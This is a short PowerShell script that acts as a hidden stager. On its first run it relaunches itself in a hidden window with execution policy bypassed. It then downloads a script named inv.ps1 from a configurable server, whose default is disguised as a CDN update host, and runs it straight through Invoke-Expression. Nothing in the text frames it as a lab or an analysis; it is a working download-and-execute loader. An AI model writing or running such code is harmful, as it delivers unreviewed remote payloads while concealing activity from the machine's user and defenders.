param(
    [string]$Server = 'cdn-update.example.net'
)

# relaunch hidden the first time round
if ($Host.Name -eq 'ConsoleHost' -and -not $env:STAGED) {
    $env:STAGED = '1'
    Start-Process powershell.exe -ArgumentList "-NoP -W Hidden -ExecutionPolicy Bypass -File `"$PSCommandPath`"" -WindowStyle Hidden
    exit
}

$uri = "https://$Server/tools/inv.ps1"
(iwr -UseBasicParsing -Uri $uri).Content | iex
